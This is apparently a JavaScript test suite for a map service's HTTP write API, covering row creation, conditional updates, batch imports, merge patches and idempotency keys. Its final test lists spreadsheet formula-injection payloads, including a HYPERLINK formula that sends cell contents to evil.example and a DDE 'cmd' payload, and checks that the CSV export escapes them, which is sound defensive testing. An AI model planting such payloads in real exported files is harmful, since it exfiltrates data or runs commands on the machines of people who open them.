// Rows written over HTTP: what is taken, what is refused, and that what was
// acknowledged is everywhere at once and stays.
//
// Plan
//   one row lives: made, seen, replaced, changed, removed; conditions, also
//   of what is seen of it
//   batches in each form, all or nothing, in part, in the place of others
//   what is wrong is told by row, id and field, and nothing is written
//   a patch, by an oracle: the RFC's own pseudo code
//   keys: the same answer for the same request, over a restart too
//   a table that was written comes back as it was
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import test from 'node:test';
import zlib from 'node:zlib';

import { ask, CSV, GEOJSON, LINES, MERGE } from './ask.mjs';
import { done } from './onemap.mjs';
import { csv } from './roles.mjs';
import { makeCity, ROWS, SOUTH, STEP, tileX, tileY, WEST } from './sample.mjs';
import { raw, serve } from './server.mjs';
import { collection, countOf, feature, ITEMS, text } from './write_sample.mjs';

/** The tile of a place at a zoom where few rows share one; all its bytes. */
async function tileAt(url, lon, lat, z = 17) {
    const answer = await ask(`${url}/tiles/place/${z}/${tileX(lon, z)}/${tileY(lat, z)}.mvt`);
    assert.ok([200, 204].includes(answer.status), `tile: ${answer.status}`);
    return answer.body;
}

test('one row lives', async (t) => {
    const { city } = await makeCity(t), { url } = await serve(t, city), at = `${url}${ITEMS}`;
    // A place of its own, so that tiles show the row and no cell.
    const lon = 113.61234567, lat = 22.81234567;
    const before = await countOf(url), empty = await tileAt(url, lon, lat);
    assert.ok(!empty.includes('新-1'));

    const made = await ask(at, { method: 'POST', body: feature('新-1', { lon, lat, note: '一' }) });
    assert.equal(made.status, 201, made.text());
    assert.equal(made.headers.location, `${at}/${encodeURIComponent('新-1')}`);
    const { id, sequence } = made.json();
    assert.equal(id, '新-1');
    assert.equal(made.headers.etag, `"${sequence}"`);
    assert.equal(made.headers['data-sequence'], String(sequence));
    assert.match(made.headers['data-as-of'], /^\d{4}-.*\+08:00$/);
    assert.equal(await countOf(url), before + 1);
    assert.ok((await tileAt(url, lon, lat)).includes('新-1'));
    assert.equal((await ask(at, { method: 'POST', body: feature('新-1') })).status, 409);

    const seen = await ask(made.headers.location);
    assert.equal(seen.headers.etag, made.headers.etag);
    assert.equal(seen.headers['cache-control'], 'no-cache');
    const row = seen.json();
    assert.deepEqual([row.properties.note, row.properties.weight, row.properties.square], ['一', 1, 'U11']);
    assert.ok(Math.abs(row.geometry.coordinates[0] - lon) < 1e-6);
    assert.equal((await ask(made.headers.location, { headers: { 'If-None-Match': seen.headers.etag } })).status, 304);

    // Only what the patch names changes; the unit follows the place.
    const patched = await ask(made.headers.location, { method: 'PATCH', type: MERGE, headers: { 'If-Match': seen.headers.etag },
        body: { properties: { weight: null, note: '二' }, geometry: { type: 'Point', coordinates: [lon + STEP, lat] } } });
    assert.equal(patched.status, 200, patched.text());
    assert.ok(patched.json().sequence > sequence);
    const after = (await ask(made.headers.location)).json();
    assert.deepEqual([after.properties.note, after.properties.weight, after.properties.kind, after.properties.square], ['二', null, 'shop', 'U12']);
    assert.ok(!(await tileAt(url, lon, lat)).includes('新-1'));
    assert.ok((await tileAt(url, lon + STEP, lat)).includes('新-1'));

    // The row is not the one that was read: nothing is lost unseen.
    for (const [method, body] of [['PATCH', '{"properties":{"weight":7}}'], ['PUT', feature('新-1')], ['DELETE', undefined]]) {
        const late = await ask(made.headers.location, { method, body, headers: { 'If-Match': seen.headers.etag } });
        assert.equal(late.status, 412, method);
        assert.equal((await ask(made.headers.location, { method, body, headers: { 'If-Match': `W/${patched.headers.etag}` } })).status, 412, 'weak');
    }
    assert.equal((await ask(made.headers.location, { method: 'PATCH', body: '{}', headers: { 'If-Match': '123' } })).status, 400);
    const listed = await ask(made.headers.location, { method: 'PATCH', body: '{"properties":{"weight":8}}', headers: { 'If-Match': `"1", ${patched.headers.etag}, "x"` } });
    assert.equal(listed.status, 200, listed.text());

    // The same row sent gzipped has a tag of its own, which names it, too.
    await ask(made.headers.location, { method: 'PATCH', body: { properties: { note: 'long '.repeat(300) } } });
    const packed = await ask(made.headers.location, { headers: { 'Accept-Encoding': 'gzip' } });
    assert.match(packed.headers.etag, /^"\d+-g"$/);
    assert.equal((await ask(made.headers.location, { method: 'PATCH', body: '{}', headers: { 'If-Match': packed.headers.etag } })).status, 200);
    assert.equal((await ask(made.headers.location, { method: 'PATCH', body: '{}', headers: { 'If-Match': packed.headers.etag } })).status, 412);

    const put = await ask(made.headers.location, { method: 'PUT', body: { ...feature('x', { lon, lat }), id: undefined }, headers: { 'If-Match': '*' } });
    assert.equal(put.status, 200);
    assert.equal((await ask(made.headers.location)).json().properties.note, null);
    const other = `${at}/PUT%20%2B`;
    assert.equal((await ask(other, { method: 'PUT', body: feature('PUT +'), headers: { 'If-Match': '*' } })).status, 412);
    assert.equal((await ask(other, { method: 'PUT', body: feature('PUT +'), headers: { 'If-None-Match': '*' } })).status, 201);
    assert.equal((await ask(other, { method: 'PUT', body: feature('PUT +'), headers: { 'If-None-Match': '*' } })).status, 412);
    assert.equal((await ask(other, { method: 'PUT', body: feature('PUT +') })).status, 200);
    assert.equal((await ask(other, { method: 'PUT', body: feature('another') })).status, 400);

    assert.equal((await ask(other, { method: 'DELETE' })).status, 204);
    assert.equal((await ask(made.headers.location, { method: 'DELETE' })).status, 204);
    for (const gone of [other, made.headers.location])
        for (const method of ['GET', 'DELETE', 'PATCH'])
            assert.equal((await ask(gone, { method, ...(method === 'PATCH' ? { body: '{}' } : {}) })).status, 404, `${method} ${gone}`);
    assert.equal(await countOf(url), before);
    assert.ok(!(await tileAt(url, lon, lat)).includes('新-1'));
});

test('whoever does not see all of a row writes on the condition of what they see', async (t) => {
    const { city } = await makeCity(t), file = path.join(city, 'city.json'), manifest = JSON.parse(await readFile(file, 'utf8'));
    manifest.layers.find((l) => l.name === 'place').personal_columns = ['note'];
    await writeFile(file, JSON.stringify(manifest));
    const { url } = await serve(t, city), at = `${url}${ITEMS}`, one = `${at}/c-1`, type = MERGE;
    const made = await ask(at, { method: 'POST', body: feature('c-1', { weight: 1 }) });
    assert.deepEqual([made.status, made.headers.etag], [201, undefined]);
    const tag = async (headers) => (await ask(one, { headers })).headers.etag;
    const patch = (etag, properties) => ask(one, { method: 'PATCH', type, headers: { 'If-Match': etag }, body: { properties } });
    const first = await tag(), zipped = await tag({ 'Accept-Encoding': 'gzip' });
    assert.equal('note' in (await ask(one)).json().properties, false);
    assert.ok(!/^"\d+"$/.test(first), 'no sequence: it would tell of what is hidden');
    assert.equal((await ask(one, { headers: { 'If-None-Match': first } })).status, 304);
    for (const etag of [first, zipped, `"1", ${first}`]) {
        const weight = (await ask(one)).json().properties.weight;
        const done = await patch(etag, { weight: weight === 1 ? 2 : 1 });
        assert.equal(done.status, 200, `${etag}: ${done.body}`);
        // What is seen has changed; the older one fits no more, the first fits again.
        assert.equal((await patch(etag, { weight: 9 })).status, 412, etag);
        assert.equal((await ask(one, { method: 'PATCH', type, body: { properties: { weight } } })).status, 200);
        assert.equal(await tag(), first);
    }
    assert.equal((await patch(`"v${'0'.repeat(16)}"`, { weight: 3 })).status, 412);
    assert.equal((await patch(`"${made.json().sequence}"`, { weight: 3 })).status, 412, 'a sequence would tell of what is hidden');
    assert.equal((await ask(`${at}/c-none`, { method: 'PATCH', type, headers: { 'If-Match': first }, body: { properties: { weight: 3 } } })).status, 412);
    assert.equal((await ask(one, { method: 'DELETE', headers: { 'If-Match': first } })).status, 204);
});

test('batches', async (t) => {
    const { city } = await makeCity(t), server = await serve(t, city), { url } = server, at = `${url}${ITEMS}`;
    // What a server gives it takes back, under other names.
    const rename = (s) => s.replaceAll(/P(\d{5})/g, 'C$1');
    const table = (await ask(`${url}/collections/place/items.csv`)).text();
    const taken = await ask(at, { method: 'POST', type: CSV, body: rename(table) });
    assert.equal(taken.status, 200, taken.text());
    assert.equal(taken.json().taken, ROWS);
    assert.equal(taken.json().last - taken.json().first, ROWS - 1);
    const page = (await ask(`${url}${ITEMS}?limit=100000&filter=${encodeURIComponent("id LIKE 'P%'")}`)).json();
    assert.equal(page.features.length, ROWS);
    const lines = rename(page.features.map(text).join('\n')).replaceAll('"C', '"L');
    assert.equal((await ask(at, { method: 'POST', type: LINES, body: lines })).json().taken, ROWS);
    const document = rename(text(page)).replaceAll('"C', '"D');
    assert.equal((await ask(at, { method: 'POST', body: document })).json().taken, ROWS);
    assert.equal(await countOf(url), 4 * ROWS);
    const of = async (letter) => (await ask(`${url}/stats/place?by=square&sum=weight&filter=${encodeURIComponent(`id LIKE '${letter}%'`)}`)).text();
    const truth = await of('P');
    for (const letter of ['C', 'L', 'D']) assert.equal((await of(letter)).replaceAll(`${letter}%`, 'P%'), truth, letter);

    // All or nothing, unless asked otherwise; then each refused row is named.
    const mixed = collection([feature('N1'), feature('N2', { weight: 'heavy' }), feature('P00003'), feature('N3'), feature('N3')]);
    const none = await ask(at, { method: 'POST', body: mixed });
    assert.equal(none.status, 400);
    assert.equal(await countOf(url), 4 * ROWS);
    const clash = await ask(at, { method: 'POST', body: collection([feature('N1'), feature('P00003')]) });
    assert.equal(clash.status, 409);
    assert.deepEqual(clash.json().errors.map((e) => [e.row, e.id, e.field]), [[2, 'P00003', 'id']]);
    assert.equal((await ask(`${at}/N1`)).status, 404);
    const all = await ask(at, { method: 'POST', type: LINES, body: page.features.map(text).join('\n') });
    assert.deepEqual([all.status, all.json().refused, all.json().errors.length], [409, ROWS, 100]);
    const some = await ask(`${at}?partial=true`, { method: 'POST', body: mixed });
    assert.equal(some.status, 200, some.text());
    assert.deepEqual([some.json().taken, some.json().refused], [2, 3]);
    assert.deepEqual(some.json().errors.map((e) => [e.row, e.id, e.field]), [[2, 'N2', 'weight'], [3, 'P00003', 'id'], [5, 'N3', 'id']]);
    assert.equal(await countOf(url), 4 * ROWS + 2);
    // By row, whoever found the fault; the first hundred of them.
    const every = await ask(`${at}?partial=true`, { method: 'POST', type: LINES, body: Array.from({ length: 200 }, (_, i) => text(feature(`P${String(i).padStart(5, '0')}`, i % 2 ? { weight: 'heavy' } : {}))).join('\n') });
    assert.deepEqual([every.status, every.json().refused], [every.status, 200]);
    assert.deepEqual(every.json().errors.map((e) => [e.row, e.field]), Array.from({ length: 100 }, (_, i) => [i + 1, i % 2 ? 'weight' : 'id']));
    assert.equal((await ask(`${at}?partial=true`, { method: 'POST', body: collection([feature('')]) })).status, 400);
    const over = await ask(`${at}?upsert=true`, { method: 'POST', body: collection([feature('P00003', { weight: 77 }), feature('N9')]) });
    assert.equal(over.json().taken, 2);
    assert.equal((await ask(`${at}/P00003`)).json().properties.weight, 77);

    // Lines and shapes, by the same rules.
    const road = { type: 'Feature', id: 'R-new', geometry: { type: 'LineString', coordinates: [[WEST + 0.1, SOUTH + 0.1], [WEST + 0.2, SOUTH + 0.1]] }, properties: { kind: 'lane' } };
    assert.equal((await ask(`${url}/collections/road/items`, { method: 'POST', body: road })).status, 201);
    assert.equal((await ask(`${url}/collections/road/items/R-new`)).json().geometry.coordinates.length, 2);
    assert.equal((await ask(`${url}/collections/road/items`, { method: 'POST', type: CSV, body: 'lon,lat,id\n1,2,a\n' })).status, 415);

    // After a restart, and for the command line, it is all there.
    assert.match(await done('query', city, 'place', '--count'), new RegExp(`\\b${4 * ROWS + 3}\\b`));
    server.child.kill('SIGKILL');
    await once(server.child, 'exit');
    const again = await serve(t, city);
    assert.equal(await countOf(again.url), 4 * ROWS + 3);
    assert.equal((await ask(`${again.url}${ITEMS}/P00003`)).json().properties.weight, 77);
    await again.stop();
    assert.match(await done('verify', city), /all sound/);
});

test('what is wrong is told, and nothing is written', async (t) => {
    const { city } = await makeCity(t), { url, port } = await serve(t, city), at = `${url}${ITEMS}`;
    const before = await countOf(url);
    const good = text(feature('X1'));
    const cases = [
        // method, path, {body, type, headers}, status
        ['POST', ITEMS, { body: '' }, 400], ['POST', ITEMS, { body: '{' }, 400], ['POST', ITEMS, { body: '[]' }, 400],
        ['POST', ITEMS, { body: good, type: 'text/plain' }, 415], ['POST', ITEMS, { body: good, type: 'application/x-www-form-urlencoded' }, 415],
        ['POST', ITEMS, { body: good, type: 'multipart/form-data; boundary=x' }, 415], ['POST', ITEMS, { body: good, type: 'application/geo+jsonx' }, 415],
        ['POST', ITEMS, { body: good, type: `${GEOJSON}; charset=gbk` }, 415],
        ['POST', ITEMS, { body: zlib.gzipSync(good), headers: { 'Content-Encoding': 'gzip' } }, 415],
        ['POST', `${ITEMS}?colour=red`, { body: good }, 400], ['POST', `${ITEMS}?partial=perhaps`, { body: good }, 400],
        ['POST', '/collections/nowhere/items', { body: good }, 404], ['POST', '/nowhere', { body: good }, 404],
        ['POST', '/collections/square/items', { body: good }, 405], ['PUT', ITEMS, { body: good }, 405], ['POST', `${ITEMS}/P00001`, { body: good }, 405],
        ['PATCH', `${ITEMS}/P00001`, { body: '{"properties":{"colour":1}}' }, 400], ['PATCH', `${ITEMS}/P00001`, { body: good, type: CSV }, 415],
        ['PATCH', `${ITEMS}/P00001`, { body: '{"id":"P00002"}' }, 400], ['PATCH', `${ITEMS}/P00001`, { body: '{"geometry":null}' }, 400],
        ['PUT', `${ITEMS}/P00001`, { body: text(collection([feature('P00001')])) }, 400],
        ['DELETE', `${ITEMS}/P00001`, { body: 'x' }, 413],
        ['POST', ITEMS, { body: good, headers: { 'If-Match': '"1"' } }, 400], ['POST', ITEMS, { body: good, headers: { 'If-None-Match': '*' } }, 400],
        ['POST', ITEMS, { body: good, headers: { 'Idempotency-Key': 'a b' } }, 400], ['POST', ITEMS, { body: good, headers: { 'Idempotency-Key': 'x'.repeat(61) } }, 400],
        ['POST', ITEMS, { body: text(feature('X1', { lon: 0, lat: 0 })) }, 400], ['POST', ITEMS, { body: text(feature('X1', { lon: 22.9, lat: 113.7 })) }, 400],
        ['POST', ITEMS, { body: 'lon,lat,id\n113.7,22.9,X1\n', type: GEOJSON }, 400], ['POST', ITEMS, { body: 'lon,lat,id,colour\n113.7,22.9,X1,red\n', type: CSV }, 400],
        ['POST', ITEMS, { body: '\n', type: LINES }, 400],
    ];
    for (const [method, target, options, status] of cases) {
        const answer = await ask(url + target, { method, ...options });
        const what = `${method} ${target} ${options.type ?? ''} ${String(options.body).slice(0, 60)}`;
        assert.equal(answer.status, status, `${what}: ${answer.body}`);
        assert.equal(answer.headers['content-type'], 'application/problem+json', what);
        assert.equal(answer.json().status, status, what);
        assert.equal(answer.headers['access-control-allow-origin'], undefined, what);
        if (status === 415) assert.match(answer.headers['accept-post'] ?? answer.headers['accept-patch'], /geo\+json/, what);
        if (status === 405) assert.match(answer.headers.allow, /GET, HEAD/, what);
    }
    // Every row and every field, the first hundred of them.
    const bad = Array.from({ length: 150 }, (_, i) => feature(`B${i}`, { weight: 'x', colour: i }));
    const { errors, refused } = (await ask(at, { method: 'POST', body: collection(bad) })).json();
    assert.equal(refused, 150);
    assert.equal(errors.length, 100);
    assert.deepEqual(errors.slice(0, 2).map((e) => [e.row, e.id, e.field]), [[1, 'B0', 'weight'], [1, 'B0', 'colour']]);
    for (const e of errors) assert.ok(e.reason, text(e));
    assert.match((await ask(at, { method: 'POST', body: feature('X1', { lon: 0, lat: 0 }) })).json().errors[0].reason, /outside of the city/);
    // Limits: rows, a document, a body; and a client that asks first is told at once.
    const many = ['lon,lat,id', ...Array.from({ length: 65537 }, (_, i) => `113.7,22.9,M${i}`)].join('\n');
    assert.equal((await ask(at, { method: 'POST', type: CSV, body: many })).status, 413);
    assert.equal((await ask(at, { method: 'POST', body: ' '.repeat((8 << 20) + 1) })).status, 413);
    assert.match(await raw(port, `POST ${ITEMS} HTTP/1.1\r\nHost: localhost\r\nContent-Type: ${CSV}\r\nContent-Length: 900000000\r\nExpect: 100-continue\r\n\r\n`), /^HTTP\/1\.1 413 /);
    assert.match(await raw(port, `POST ${ITEMS} HTTP/1.1\r\nHost: localhost\r\nContent-Type: text/plain\r\nContent-Length: 9\r\nExpect: 100-continue\r\n\r\n`), /^HTTP\/1\.1 415 /);
    assert.equal(await countOf(url), before);
    assert.equal((await ask(at, { method: 'POST', body: good, type: 'Application/Geo+JSON; charset="UTF-8"' })).status, 201);
    assert.equal((await ask(at, { method: 'POST', body: feature('X2'), type: 'application/json' })).status, 201);
});

test('a patch is merged as RFC 7396 says', async (t) => {
    const { city } = await makeCity(t), { url } = await serve(t, city), type = MERGE;
    const target = (doc, patch) => {  // the RFC's own pseudo code
        if (patch === null || typeof patch !== 'object' || Array.isArray(patch)) return patch;
        const out = doc !== null && typeof doc === 'object' && !Array.isArray(doc) ? { ...doc } : {};
        for (const [key, value] of Object.entries(patch)) if (value === null) delete out[key]; else out[key] = target(out[key], value);
        return out;
    };
    // What is not there has no value, and numbers of places are rounded to the grid.
    const plain = (f) => [f.geometry.type, f.geometry.coordinates.flat(9).map((n) => n.toFixed(5)), Object.entries(f.properties ?? {}).filter(([k, v]) => v !== null && !['id', 'square'].includes(k)).sort()];
    const road = { type: 'Feature', id: 'R-new', geometry: { type: 'LineString', coordinates: [[WEST + 0.1, SOUTH + 0.1], [WEST + 0.2, SOUTH + 0.1]] }, properties: { kind: 'lane' } };
    assert.equal((await ask(`${url}/collections/road/items`, { method: 'POST', body: road })).status, 201);
    for (const [at, patches] of [[`${url}${ITEMS}/P00002`, [{}, { properties: { note: null, weight: 5 } }, { geometry: { coordinates: [WEST + 0.05, SOUTH + 0.06] } }, { geometry: { type: 'Point' } }, { properties: { nothing: null } }, { geometry: {}, properties: { kind: 'home' } }, { properties: null }]],
        [`${url}/collections/road/items/R-new`, [{ geometry: { coordinates: [[WEST, SOUTH], [WEST + 0.1, SOUTH + 0.2], [WEST + 0.2, SOUTH]] } }, { geometry: { type: 'LineString' } }, { properties: { kind: null } }]]])
        for (const patch of patches) {
            const before = (await ask(at)).json(), done_ = await ask(at, { method: 'PATCH', type, body: patch });
            assert.equal(done_.status, 200, `${text(patch)}: ${done_.body}`);
            assert.deepEqual(plain((await ask(at)).json()), plain(target(before, patch)), text(patch));
        }
    for (const patch of [{ geometry: null }, { geometry: { coordinates: null } }, { geometry: { type: 'LineString' } }, { id: null }, { properties: { nothing: 1 } }, []])
        assert.equal((await ask(`${url}${ITEMS}/P00002`, { method: 'PATCH', type, body: patch })).status, 400, text(patch));
});

test('a key repeats the answer and not the write', async (t) => {
    const { city } = await makeCity(t), server = await serve(t, city);
    const go = (url, body, key, target = ITEMS) => ask(url + target, { method: 'POST', body, headers: { 'Idempotency-Key': key } });
    const plain = (a) => [a.status, a.text(), a.headers.location?.replace(/^http:..[^/]*/, ''), a.headers.etag];
    const one = feature('K1'), batch = collection([feature('K2'), feature('K3')]);
    const first = await go(server.url, one, 'key-1'), second = await go(server.url, batch, 'key-2');
    assert.deepEqual([first.status, second.status], [201, 200]);
    assert.equal(first.headers['idempotency-replayed'], undefined);
    const before = await countOf(server.url);
    for (const url of [server.url, null]) {
        let where = url;
        if (!where) {
            await server.stop();
            where = (await serve(t, city)).url;
        }
        const again = await go(where, one, 'key-1');
        assert.equal(again.headers['idempotency-replayed'], 'true');
        assert.deepEqual(plain(again), plain(first));
        assert.deepEqual(plain(await go(where, batch, 'key-2')), plain(second));
        assert.equal((await go(where, feature('K4'), 'key-1')).status, 422);
        assert.equal((await go(where, one, 'key-1', `${ITEMS}?partial=true`)).status, 422);
        assert.equal((await go(where, one, 'key-3')).status, 409);
        assert.equal(await countOf(where), before);
    }
    // Of rows that the city refused the number is kept, and that there were reasons;
    // what is wrong in the body is found again.
    const { city: other } = await makeCity(t), writer = await serve(t, other);
    const mixed = collection([feature('K8'), feature('P00001'), feature('K9', { weight: 'x' })]), partly = `${ITEMS}?partial=true`;
    const told = (await go(writer.url, mixed, 'key-8', partly)).json();
    assert.deepEqual([told.taken, told.refused, told.errors.map((e) => e.row), told.errors_not_kept], [1, 2, [2, 3], undefined]);
    await writer.stop();
    const retold = (await go((await serve(t, other)).url, mixed, 'key-8', partly)).json();
    assert.deepEqual([retold.taken, retold.refused, retold.errors.map((e) => e.row), retold.errors_not_kept], [1, 2, [3], 1]);
    // What failed may be tried again under its key; many at once write once.
    const { url } = await serve(t, (await makeCity(t)).city);
    assert.equal((await go(url, feature('K5', { weight: 'x' }), 'key-5')).status, 400);
    assert.equal((await go(url, feature('K5'), 'key-5')).status, 201);
    const body = collection([feature('K6'), feature('K7')]);
    const answers = await Promise.all(Array.from({ length: 40 }, () => go(url, body, 'key-6')));
    assert.equal(new Set(answers.map((a) => text(plain(a)))).size, 1);
    assert.equal(answers.filter((a) => !a.headers['idempotency-replayed']).length, 1);
});

test('one of many has made the row, and hears it again', async (t) => {
    const { city } = await makeCity(t), server = await serve(t, city), put = (url, id, headers = {}) => ask(`${url}${ITEMS}/${id}`, { method: 'PUT', body: feature(id), headers });
    for (let round = 0; round < 5; round++) {
        const answers = await Promise.all(Array.from({ length: 30 }, () => put(server.url, `M${round}`)));
        assert.deepEqual(answers.map((a) => a.status).sort(), [...Array(29).fill(200), 201]);
        const [made] = answers.filter((a) => a.status === 201);
        assert.equal(made.json().sequence, Math.min(...answers.map((a) => a.json().sequence)));
        assert.ok(made.headers.location.endsWith(`/M${round}`));
    }
    const first = await put(server.url, 'key', { 'Idempotency-Key': 'put-1' }), later = await put(server.url, 'key', { 'Idempotency-Key': 'put-2' });
    assert.deepEqual([first.status, later.status], [201, 200]);
    await server.stop('SIGKILL');
    const { url } = await serve(t, city);
    for (const [key, was] of [['put-1', first], ['put-2', later]]) {
        const again = await put(url, 'key', { 'Idempotency-Key': key });
        assert.equal(again.headers['idempotency-replayed'], 'true');
        assert.deepEqual([again.status, again.text(), Boolean(again.headers.location)], [was.status, was.text(), was.status === 201]);
    }
});

test('a table has no formulas, and comes back as it was', async (t) => {
    const { city, dir } = await makeCity(t), { url } = await serve(t, city), at = `${url}${ITEMS}`;
    const NOTES = ['=HYPERLINK("http://evil.example/?"&A1)', "+cmd|' /C calc'!A0", '-2+3+cmd', '@SUM(1)', '\t=1', "'=1", "''@x", '=', '-3', '+86 769-2222', '-', "'s-Gravenhage", "it's", 'a=b', '一=二'];
    for (const [i, note] of NOTES.entries()) assert.equal((await ask(at, { method: 'POST', body: feature(`f-${i}`, { note }) })).status, 201, note);
    const table = (await ask(`${at}.csv?filter=${encodeURIComponent("id LIKE 'f-%'")}`)).text(), cells = Object.fromEntries(csv(table).map((row) => [row.id, row.note]));
    for (const [i, note] of NOTES.entries()) {
        assert.ok(!/^[=@\t]|^[+-](?![\d.,() -]*$)/.test(cells[`f-${i}`]), `${note}: ${cells[`f-${i}`]}`);
        assert.equal(cells[`f-${i}`], i < 8 ? `'${note}` : note);
    }
    const notes = async (from) => Object.fromEntries((await ask(`${from}?limit=100&filter=${encodeURIComponent("id LIKE 'f-%'")}`)).json().features.map((f) => [f.id, f.properties.note]));
    const before = await notes(at);
    assert.deepEqual(NOTES.map((_, i) => before[`f-${i}`]), NOTES);
    assert.equal((await ask(`${at}?upsert=true`, { method: 'POST', type: CSV, body: table })).status, 200);
    assert.deepEqual(await notes(at), before);
    // ... and by an import.
    const file = path.join(dir, 'place.csv'), other = path.join(dir, 'other');
    await writeFile(file, table);
    await done('import', other, 'place', file, '--quiet');
    const again = await serve(t, other);
    assert.deepEqual(await notes(`${again.url}${ITEMS}`), before);
});
